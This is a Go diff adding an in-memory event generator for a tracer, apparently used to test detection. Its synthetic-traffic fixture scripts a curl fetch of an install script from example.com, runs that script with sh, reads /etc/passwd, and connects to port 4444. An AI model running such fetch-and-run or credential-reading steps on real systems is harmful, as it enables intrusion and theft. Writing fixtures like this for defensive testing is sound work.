@@ -0,0 +1,116 @@
+package tracer
+
+import (
+	"context"
+	"io"
+	"sync"
+	"time"
+)
+
+// GeneratorSource produces events in memory from a generator function. It
+// is used for demos, load tests and integration tests.
+type GeneratorSource struct {
+	next     func(seq uint64) []byte
+	count    uint64
+	interval time.Duration
+	seq      uint64
+	closed   chan struct{}
+	once     sync.Once
+}
+
+// NewGeneratorSource emits count events (0 means unlimited), one every
+// interval (0 means as fast as possible). next returns the sample for a
+// sequence number starting at 0; a nil sample ends the stream.
+func NewGeneratorSource(count uint64, interval time.Duration, next func(seq uint64) []byte) *GeneratorSource {
+	return &GeneratorSource{
+		next:     next,
+		count:    count,
+		interval: interval,
+		closed:   make(chan struct{}),
+	}
+}
+
+// NewSampleSource replays a fixed list of samples once, without delay.
+func NewSampleSource(samples [][]byte) *GeneratorSource {
+	return NewGeneratorSource(uint64(len(samples)), 0, func(seq uint64) []byte {
+		return samples[seq]
+	})
+}
+
+func (s *GeneratorSource) Read(ctx context.Context) ([]byte, error) {
+	if s.count > 0 && s.seq >= s.count {
+		return nil, io.EOF
+	}
+
+	if s.interval > 0 && s.seq > 0 {
+		t := time.NewTimer(s.interval)
+		defer t.Stop()
+		select {
+		case <-ctx.Done():
+			return nil, ctx.Err()
+		case <-s.closed:
+			return nil, io.EOF
+		case <-t.C:
+		}
+	}
+
+	select {
+	case <-ctx.Done():
+		return nil, ctx.Err()
+	case <-s.closed:
+		return nil, io.EOF
+	default:
+	}
+
+	sample := s.next(s.seq)
+	if sample == nil {
+		return nil, io.EOF
+	}
+	s.seq++
+	return sample, nil
+}
+
+func (s *GeneratorSource) Close() error {
+	s.once.Do(func() { close(s.closed) })
+	return nil
+}
+
+// syntheticUID is the login UID of the synthetic terminal session.
+var syntheticUID uint32 = 1000
+
+// syntheticProcesses is the cast of SyntheticTraffic: a user at a terminal
+// fetching and running a script.
+var syntheticProcesses = []JSONEvent{
+	{Type: "exec", PID: 4100, PPID: 1, Comm: "bash", PComm: "systemd", Filename: "/usr/bin/bash", CommandLine: "bash",
+		LoginUID: &syntheticUID, SessionLeader: 4100, TTY: "pts/0"},
+	{Type: "exec", PID: 4101, PPID: 4100, Comm: "curl", PComm: "bash", Filename: "/usr/bin/curl", CommandLine: "curl -fsSL http://example.com/install.sh",
+		LoginUID: &syntheticUID, SessionLeader: 4100, TTY: "pts/0"},
+	{Type: "connect", PID: 4101, Comm: "curl", Addr: "93.184.216.34", Port: 80},
+	{Type: "file", PID: 4101, Comm: "curl", Filename: "/tmp/install.sh", Flags: 0x241},
+	{Type: "exec", PID: 4102, PPID: 4100, Comm: "sh", PComm: "bash", Filename: "/usr/bin/sh", CommandLine: "sh /tmp/install.sh",
+		LoginUID: &syntheticUID, SessionLeader: 4100, TTY: "pts/0"},
+	{Type: "file", PID: 4102, Comm: "sh", Filename: "/etc/passwd"},
+	{Type: "connect", PID: 4102, Comm: "sh", Addr: "10.0.0.5", Port: 4444},
+}
+
+// SyntheticTraffic cycles through a small attack-like scenario. PIDs are
+// shifted on every cycle so each round looks like new processes, and rounds
+// are spread over four synthetic cgroups.
+func SyntheticTraffic(seq uint64) []byte {
+	n := uint64(len(syntheticProcesses))
+	ev := syntheticProcesses[seq%n]
+	shift := uint32(seq/n) * 10
+	ev.PID += shift
+	if ev.PPID > 1 {
+		ev.PPID += shift
+	}
+	if ev.SessionLeader != 0 {
+		ev.SessionLeader += shift
+	}
+	ev.CgroupID = 1000 + seq/n%4
+	sample, err := ev.Encode()
+	if err != nil {
+		return nil
+	}
+	return sample
+}